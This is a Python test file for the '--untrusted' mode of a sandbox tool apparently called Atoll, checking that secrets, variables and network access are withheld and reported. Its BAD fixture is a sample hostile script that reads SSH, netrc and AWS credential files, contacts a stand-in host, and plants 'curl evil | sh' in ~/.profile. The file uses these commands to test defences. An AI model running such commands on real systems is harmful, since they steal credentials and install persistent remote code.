#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# timeout: 300
"""--untrusted: no secrets, hardly any variable, no network, no way around, and a report of the command's attempts."""
import json
import os
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import atolltest as t  # noqa: E402

SCENES = []
# A script from the internet: it collects secrets, calls home, and leaves files behind.
BAD = r"""
env > env.txt
cat ~/.ssh/id_test ~/.netrc ~/.aws/credentials > loot.txt 2> denied.txt
for path in ~/.ssh/id_test ~/.netrc ~/.aws/credentials; do grep . $path && echo seen $path >> seen.txt; done 2>/dev/null
PYTHON -I -S -c 'import socket; socket.create_connection(("203.0.113.9", 443), 5)' 2>/dev/null
PYTHON -I -S -c 'import socket
for _ in range(3):
    try: socket.getaddrinfo("evil.example.com.", 80, socket.AF_INET)
    except OSError: pass' 2>/dev/null
echo 'curl evil | sh' >> ~/.profile
echo x > /tmp/marker
echo done > result
exit 0
""".replace("PYTHON", t.PYTHON)
QUIET = "echo harmless > result"
CREDENTIALS = {"GITHUB_TOKEN": "t0ken", "AWS_SECRET_ACCESS_KEY": "k", "PGPASSWORD": "p",
               "DATABASE_URL": "postgres://u:pw@db/x", "MY_APP": "x"}


def scene(function):
    SCENES.append(function)
    return function


class Person:
    def __init__(self, place, who):
        self.place, self.who = place, who
        self.home = place.fresh("home", who)
        self.path = self.home + "/project"
        self.box = t.Box(place, who, environment={"HOME": self.home, **CREDENTIALS})
        self.sh("mkdir project .ssh .aws; echo KEY > .ssh/id_test; echo PASSWORD > .netrc; echo AWS > .aws/credentials; echo one > .profile; "
                "echo old > project/file")

    def sh(self, script):
        done = self.box.command(["sh", "-ec", script], cwd=self.home)
        assert done.returncode == 0, t.said(done)

    def run(self, script, *options, name=(), **more):
        return self.box.atoll("run", *name, *options, "--", "sh", "-c", script, cwd=self.path, **more)

    def read(self, name):
        with open(os.path.join(self.path, name), encoding="utf-8") as file:
            return file.read()


def gateway_is_possible(done):
    return b"cannot say where to" not in done.stderr


@scene
def a_script_that_steals(p, check, skip):
    done = p.run(BAD, "--untrusted", "--commit")
    check("the command runs, and its changes land", done.returncode == 0 and p.read("result") == "done\n", t.said(done))
    check("it saw no secret", p.read("loot.txt") == "" and not os.path.exists(p.path + "/seen.txt"), p.read("loot.txt"))
    names = {line.split("=")[0] for line in p.read("env.txt").splitlines()}
    check("and no variable but the few, and those of Atoll and the shell",
          names <= {"HOME", "LANG", "LC_ALL", "LOGNAME", "PATH", "SHELL", "TERM", "TZ",
                                                                                  "USER", "PWD", "OLDPWD", "SHLVL", "_",
                                                                                  "ATOLL_SANDBOX", "ATOLL_RUN"}, names)
    check("what it wrote into the home directory is named as discarded", b".profile" in done.stderr and
          open(p.home + "/.profile", encoding="ascii").read() == "one\n", t.said(done))
    if gateway_is_possible(done):
        check("the report lists each name and address that it looked for",
              b"the name evil.example.com, 3 times\n" in done.stderr and
              b"a connection to 203.0.113.9:443\n" in done.stderr and
              b"untrusted: 2 names or addresses refused, " in done.stderr, t.said(done))
    else:
        skip("the report lists each name and address that it looked for", "this machine has no veth")
    check("and sums up, with no advice to give it a network", done.stderr.count(b"untrusted: ") == 1 and
          b"written outside the sandbox and discarded" in done.stderr and b"--net host" not in done.stderr,
          t.said(done))


@scene
def a_script_that_is_harmless(p, check, _):
    done = p.run(QUIET, "--untrusted", "--discard")
    check("the report of a command that tries nothing says so", done.returncode == 0 and
          b"untrusted: it reached for no network, and wrote nothing outside the sandbox\n" in done.stderr, t.said(done))
    done = p.run(QUIET, "--untrusted", "--discard", "-q")
    check("with --quiet nothing is said", done.returncode == 0 and not done.stderr, t.said(done))
    done = p.run("exit 7", "--untrusted", "--discard")
    check("the exit status is the command's", done.returncode == 7, t.said(done))
    done = p.run("env; cat ~/.ssh/id_test", "--untrusted=no", "--discard")
    check("--untrusted=no changes nothing", b"GITHUB_TOKEN" in done.stdout and b"untrusted:" not in done.stderr,
          t.said(done))


@scene
def the_report_as_json(p, check, skip):
    done = p.run(BAD.replace("exit 0", "echo out"), "--untrusted", "--json", "--discard")
    line = [x for x in done.stderr.splitlines() if x.startswith(b"{")]
    report = json.loads(line[0]) if len(line) == 1 else {}
    check("with --json it is one line on standard error, and standard output stays the command's", len(line) == 1 and
          done.stdout == b"out\n" and
          report["untrusted"] is True and report["exit_status"] == 0 and report["signal"] == 0 and
          report["timed_out"] is False, t.said(done))
    discarded = {path["path"] for group in report["discarded"] for path in group["paths"]}
    check("it lists discarded files", {p.home + "/.profile", "/tmp/marker"} <= discarded, discarded)
    if report["network"] == "refused":
        refused = {(r["kind"], r["what"]): r["times"] for r in report["refused"]}
        check("and refused names and addresses",
              refused == {("name", "evil.example.com"): 3, ("tcp", "203.0.113.9:443"): 1}, refused)
    else:
        skip("and refused names and addresses", "this machine has no veth")
    done = p.run("true", "--json", "--discard")
    check("--json without --untrusted is refused", done.returncode == 2 and b"--untrusted" in done.stderr, t.said(done))


@scene
def what_contradicts_it(p, check, _):
    with open(p.home + "/variables", "w", encoding="ascii") as file:
        file.write("GOOD=1\nNPM_TOKEN=x\n")
    for options, word in ((["--net", "host"], b"net"), (["--net", "npm"], b"net"),
                          (["--net", "allow:example.org"], b"net"),
                          (["--publish", "8080"], b"publish"), (["--rw", p.home], b"rw"), (["--userns"], b"userns"),
                          (["--isolation", "best"], b"isolation"), (["--clear-env=no"], b"clear-env"),
                          (["--env", "GITHUB_TOKEN=x"], b"GITHUB_TOKEN"), (["--env", "URL=https://a:b@c/"], b"URL"),
                          (["--env-file", p.home + "/variables"], b"NPM_TOKEN"), (["--ro", p.home + "/.ssh"], b".ssh"),
                          (["--ro", p.home + "/.ssh/id_test"], b".ssh"), (["--dir", p.home + "/.aws"], b".aws"),
                          (["--file", p.home + "/.netrc"], b".netrc")):
        done = p.box.atoll("run", "--untrusted", *options, "--keep", "--", "touch", "ran",
                           cwd=p.home if "--file" in options else p.path)
        check("%s is a clear error" % " ".join(options).replace(p.home, "~"), done.returncode == 125 and
              word in done.stderr and b"untrusted" in done.stderr and
              done.stderr.count(b"\n") == 1 and not os.path.exists(p.path + "/ran") and
              not os.path.exists(p.home + "/ran"), t.said(done))
    check("none of them leaves a sandbox", json.loads(p.box.atoll("list", "--json").stdout) == [])
    done = p.run("echo $MY_APP $MODE", "--untrusted", "--net", "none", "--env", "MODE=fast", "--discard")
    check("Atoll takes options that do not contradict it", done.returncode == 0 and done.stdout == b"fast\n",
          t.said(done))
    done = p.run("ls -A ~/.ssh; cat ~/.aws/credentials", "--untrusted", "--tmpfs", p.home + "/.ssh", "--hide",
                 p.home + "/.aws", "--discard")
    check("Atoll takes options that show nothing of the host", done.returncode == 1 and done.stdout == b"" and
          b".aws/credentials" in done.stderr, t.said(done))


@scene
def weaker_settings(p, check, _):
    config = p.home + "/config"
    p.sh("printf '[run]\\nnet = host\\nrw = %s\\nenv = DEPLOY_TOKEN=x\\nenv = EDITOR=vi\\n' > config; chmod 644 config" % p.home)
    done = p.run("env; echo x > ~/written; cat /proc/net/dev", "--untrusted", "--config", config, "--discard")
    check("it overrides a config file", done.returncode == 0 and b"TOKEN" not in done.stdout and
          b"EDITOR" not in done.stdout and
          not os.path.exists(p.home + "/written") and b"eth0" not in done.stdout, t.said(done))
    made = p.box.atoll("new", "loose", "--dir", p.path, "--net", "host", "--env", "X=1")
    done = p.run("echo $X; cat /proc/net/dev", "--untrusted", name=["loose"])
    check("and settings kept with a sandbox", made.returncode == 0 and done.returncode == 0 and
          done.stdout.startswith(b"\n") and
          b"eth0" not in done.stdout and b"untrusted: " in done.stderr, t.said(made), t.said(done))
    done = p.box.atoll("new", "bad", "--dir", p.path, "--untrusted", "--net", "host")
    check("a sandbox cannot be made with both", done.returncode == 2 and b"contradict" in done.stderr, t.said(done))
    p.box.atoll("new", "strict", "--dir", p.path, "--untrusted")
    done = p.run("cat ~/.ssh/id_test; env", name=["strict"])
    check("all runs of a sandbox made with it are untrusted", b"KEY" not in done.stdout and
          b"TOKEN" not in done.stdout and b"untrusted: " in done.stderr, t.said(done))
    done = p.run("true", "--net", "host", name=["strict"])
    check("and options against it are errors there", done.returncode == 125 and b"contradict" in done.stderr,
          t.said(done))
    done = p.run("env", "--untrusted=no", "--net", "host", name=["strict"])
    check("unless --untrusted=no comes with them", done.returncode == 0 and b"GITHUB_TOKEN" in done.stdout,
          t.said(done))


@scene
def beside_another_run(p, check, _):
    """A view of a trusted run may show a secret: an untrusted run does not join it."""
    p.box.atoll("new", "box", "--dir", p.path)
    kept = p.box.atoll("run", "box", "--keep-alive", "60", "--ro", p.home + "/.ssh", "--", "sh", "-c",
                       "cat ~/.ssh/id_test; echo t > /tmp/t", cwd=p.path)
    done = p.run("cat ~/.ssh/id_test /tmp/t; env", "--untrusted", name=["box"])
    check("it shares no view with other runs of the sandbox", kept.stdout == b"KEY\n" and done.returncode == 125 and
          not done.stdout, t.said(kept), t.said(done))
    p.box.atoll("rm", "box", "--force", "--kill")


@scene
def a_shell(p, check, _):
    done = p.box.command(["sh", "-c", "echo 'env; cat ~/.netrc; exit 3' | \"$0\" shell --untrusted --discard",
                          p.box.program], cwd=p.path)
    check("atoll shell takes it too", done.returncode == 3 and b"TOKEN" not in done.stdout and
          b"PASSWORD" not in done.stdout and b"untrusted: " in done.stderr, t.said(done))
    done = p.run("true", "--untrusted", "--explain")
    check("--explain says that nothing is reached", b"reach   nothing" in done.stdout, t.said(done))


def main(place, tap):
    for who in place.users():
        for function in SCENES:
            if t.only(function.__name__.replace("_", " ")):
                p = Person(place, who)
                function(p, lambda name, good, *more: tap.check("%s, %s" % (name, who), good, *more),
                         lambda name, why: tap.skip("%s, %s" % (name, who), why))


t.run(main)
